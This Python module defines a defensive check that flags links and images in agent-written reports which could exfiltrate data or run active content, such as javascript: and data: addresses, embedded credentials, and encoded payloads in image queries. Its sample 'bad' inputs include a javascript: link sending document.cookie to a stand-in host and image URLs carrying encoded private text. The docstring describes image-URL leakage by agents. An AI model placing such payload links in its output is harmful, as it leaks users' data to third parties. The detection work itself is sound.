"""A link or an image that may leak data or bring active content: payloads in addresses, ``data:`` and ``javascript:``.

A viewer fetches an image as soon as it shows the report, and the address of the image can send what an agent has read to
somebody else; agents leak data in this way. A ``data:`` or ``javascript:`` address can contain active content.

Flagged are images with a payload in their query, addresses whose parameters decode to readable text, links with a user
name and password, and addresses of the wrong kind. Long addresses of portals and journals, with session and tracking
parameters, and small embedded images are not flagged.

Known problems: a short payload in the path of an address looks like the name of a page.
"""

from __future__ import annotations

import base64
import binascii
import re
from typing import TYPE_CHECKING, Final
from urllib.parse import unquote_plus

from assay.checks.base import Check, Context, Example, Hit
from assay.checks.prose import in_code
from assay.checks.wording import Wording
from assay.subjects.span import Span

if TYPE_CHECKING:
    from collections.abc import Iterator

    from assay.subjects.report import Report
    from assay.text.markup import InlineMarkup

_SCHEME: Final = re.compile(
    r"\s*(?:&#\w{1,6};|[\x00-\x20])*(javascript|vbscript|data|file)\s*:", re.IGNORECASE
)
_PICTURE: Final = re.compile(r"(?i)data:image/(?:png|jpe?g|gif|webp)[;,]")
_BASE64: Final = re.compile(r"^[A-Za-z0-9+/_\-]{24,4000}={0,2}$")
_HEX: Final = re.compile(r"^(?:[0-9a-fA-F]{2}){20,2000}$")
_USER: Final = re.compile(r"^https?://[^/?#@\s:]{1,80}:[^/?#@\s]{1,80}@", re.IGNORECASE)
_WORDS: Final = 5
_TEXT_SHARE: Final = 0.95
_OPAQUE: Final = 40
# Parameters of image services that are long and harmless.
_SIGNED: Final = (
    "x-amz-",
    "signature",
    "policy",
    "token",
    "expires",
    "sig",
    "hmac",
    "url",
    "src",
    "image",
    "fm",
    "auto",
    "hash",
    "key-pair",
)

_SCHEME_WRONG: Final = Wording(en="The address has the scheme “{scheme}”", zh="该地址使用“{scheme}”协议")
_ELEMENT_SCHEME: Final = Wording(
    en="An element's address has the scheme “{scheme}”", zh="某个元素的地址使用“{scheme}”协议"
)
_PASSWORD: Final = Wording(
    en="The address carries a user name and password: “{address}”", zh="该地址带有用户名和密码：“{address}”"
)
_ENCODED: Final = Wording(en="The address carries encoded text: “{text}”", zh="该地址夹带编码文本：“{text}”")
_SENDS_TEXT: Final = Wording(
    en="Showing the image sends “{text}” to {host}", zh="显示这张图片会把“{text}”发送到 {host}"
)
_SENDS_OPAQUE: Final = Wording(
    en="Showing the image sends {n} opaque characters to {host}",
    zh="显示这张图片会把{n}个含义不明的字符发送到 {host}",
)


def run(report: Report, context: Context) -> Iterator[Hit]:
    """Yield one finding for each address that may leak data or bring active content."""
    for inline in report.inlines:
        target = inline.target
        if target is None or inline.kind in ("cite", "tag", "comment", "code"):
            continue
        if target.startswith(("http", "www.")) and "?" not in target and "@" not in target:
            continue
        finding = _judge(inline, target)
        if finding is not None and not in_code(report, inline.start):
            yield finding
    source = report.source
    if "javascript:" in source or "data:text/html" in source:
        yield from _attributes(report)


def _judge(inline: InlineMarkup, target: str) -> Hit | None:
    span = Span(inline.start, inline.end)
    if scheme := _SCHEME.match(target):
        kind = scheme[1].lower()
        if kind == "data" and (_PICTURE.match(target) or "/" not in target[:40]):
            return None
        soft = kind in ("data", "file")
        return Hit(
            span,
            _SCHEME_WRONG(scheme=f"{kind}:"),
            confidence=0.7 if soft else 0.95,
            severity=None if soft else "error",
        )
    if _USER.match(target):
        return Hit(span, _PASSWORD(address=target[:60]), confidence=0.85)
    query = target.partition("?")[2]
    if len(query) < 24:
        return None
    for part in re.split(r"[&;]", query):
        name, _, value = part.partition("=")
        value = value or name
        if len(value) < 24:
            continue
        text = _decoded(value)
        if text is not None:
            return Hit(
                span,
                _ENCODED(text=text[:80]),
                confidence=0.9,
                severity="error" if inline.kind == "image" else None,
            )
        if inline.kind == "image" and not name.lower().startswith(_SIGNED):
            words = unquote_plus(value)
            if len(words.split()) > _WORDS:
                return Hit(
                    span,
                    _SENDS_TEXT(text=words[:80], host=_host(target)),
                    confidence=0.85,
                    severity="error",
                )
            if len(value) >= _OPAQUE and _BASE64.match(value):
                return Hit(
                    span,
                    _SENDS_OPAQUE(n=len(value), host=_host(target)),
                    confidence=0.6,
                )
    return None


def _host(url: str) -> str:
    return url.partition("://")[2].partition("/")[0][:60]


def _decoded(value: str) -> str | None:
    """Return the readable text that a value encodes in base64 or hexadecimal, or None."""
    value = unquote_plus(value).replace(" ", "+")
    raw: bytes | None = None
    if _HEX.match(value):
        raw = bytes.fromhex(value)
    elif _BASE64.match(value):
        try:
            raw = base64.urlsafe_b64decode(value.rstrip("=") + "=" * (-len(value.rstrip("=")) % 4))
        except (binascii.Error, ValueError):
            return None
    if raw is None or len(raw) < 16:
        return None
    try:
        text = raw.decode("utf-8")
    except UnicodeDecodeError:
        return None
    printable = sum(char.isprintable() or char in "\n\t" for char in text)
    # Readable text has spaces or Chinese characters, unlike letters that random bytes happen to give.
    wordy = text.count(" ") >= 2 or any("\u4e00" <= char <= "\u9fff" for char in text)
    return text if printable >= _TEXT_SHARE * len(text) and wordy else None


_ATTRIBUTE: Final = re.compile(
    r"(?i)<[a-z][^<>]{0,400}?\b(?:href|src|action|data|formaction)\s*=\s*[\"']?\s*(javascript:|data:text/html)"
)


def _attributes(report: Report) -> Iterator[Hit]:
    for match in _ATTRIBUTE.finditer(report.source):
        if not in_code(report, match.start()):
            yield Hit(
                Span(match.start(), match.end()),
                _ELEMENT_SCHEME(scheme=match[1]),
                confidence=0.95,
                severity="error",
            )


_LEAK = base64.b64encode(b"user mail is ann at corp, budget 4 million").decode()

CHECK = Check(
    code="SEC003",
    name="data-carrying-link",
    severity="warning",
    summary="A link or image with a data payload, credentials, or a javascript: or data: address.",
    run=run,
    bad=(
        Example("Sales rose by 4 %.\n\n![chart](https://img.example.net/c.png?d=" + _LEAK + ")\n"),
        Example("Read [the annex](javascript:fetch('https://x.example.net/'+document.cookie)).\n"),
        Example(
            "销量增长4%。![图](https://img.example.net/p?q=the+user+asked+about+the+merger+with+Acme+in+May)\n"
        ),
    ),
    good=(
        Example(
            "Sales rose by 4 % [1].\n\n![chart](https://img.example.net/c.png?w=800&fm=webp)\n\n## "
            "References\n\n[1] Survey: "
            "https://stats.example.org/view?docId=8c9f0a1b2c3d4e5f60718293a4b5c6d7e8f90a1b&channel=energy&ut"
            "m_source=report&session=aGVsbG8gd29ybGQ\n"
        ),
        Example("Mail [us](mailto:info@example.org) or see [the note](#limits).\n"),
    ),
)
